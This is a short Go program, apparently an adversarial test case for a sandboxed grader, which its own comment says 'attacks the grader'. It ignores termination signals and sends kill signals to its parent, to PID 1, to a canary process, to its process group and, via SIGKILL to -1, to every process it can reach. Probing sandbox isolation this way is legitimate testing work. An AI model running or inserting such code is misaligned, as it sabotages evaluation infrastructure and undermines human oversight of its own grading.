// Attacks the grader: ends its parent, process 1, its group and everybody.
package main

import (
	"os"
	"os/signal"
	"syscall"
)

func main() {
	bound()
	signal.Ignore(syscall.SIGTERM, syscall.SIGHUP, syscall.SIGINT)
	for _, pid := range []int{os.Getppid(), 1, canaryPid} {
		if pid != 0 {
			strike(pid, syscall.SIGTERM, syscall.SIGHUP, syscall.SIGINT)
		}
	}
	if group, err := syscall.Getpgid(canaryPid); err != nil || group != syscall.Getpgrp() {
		syscall.Kill(0, syscall.SIGTERM)
	} else {
		escape("G5", "always", "in the grader's process group")
	}
	answer()
	os.Stdout.Sync()
	for _, pid := range []int{os.Getppid(), 1, -1} {
		if pid != 0 {
			strike(pid, syscall.SIGKILL)
		}
	}
}
